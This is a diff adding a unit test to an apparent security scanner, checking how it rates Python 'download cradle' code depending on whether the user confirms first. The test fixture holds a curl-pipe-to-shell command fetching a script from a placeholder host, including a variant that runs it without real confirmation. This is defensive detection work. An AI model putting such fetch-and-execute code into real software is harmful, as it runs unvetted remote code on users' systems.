@@ -42,4 +42,27 @@ class ScannerTest {
         assertThat(r.indicators()).extracting(i -> i.kind().id() + " " + i.value() + " @" + i.location().line())
                 .containsExactly("url https://example.invalid/x @1", "domain example.invalid @1");
     }
+
+    @Test
+    void aCommandTheUserConfirmsAtAPromptIsReportedWithLowConfidence() {
+        String code = """
+                import subprocess
+                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
+                def install(assume_yes=False):
+                    if not assume_yes and input("Run the installer? [y/N] ") != "y":
+                        return 1
+                    return subprocess.call(CMD, shell=True)
+                def silent():
+                    name = input("Your name: ")
+                    return subprocess.call(CMD, shell=True)
+                """;
+        ScanResult r = scanner.scan(Target.of("tool.py", code.getBytes(StandardCharsets.UTF_8)));
+        List<dev.chainhunt.model.Finding> cradles = r.findings().stream()
+                .filter(f -> f.ruleId().equals("py-process-download-cradle")).toList();
+        assertThat(cradles).hasSize(2);
+        assertThat(cradles.get(0).confidence()).isEqualTo(dev.chainhunt.model.Confidence.LOW);
+        assertThat(cradles.get(0).message()).endsWith("after asking the user to confirm");
+        assertThat(cradles.get(1).confidence()).as("a prompt for a name is no confirmation")
+                .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
+    }
 }
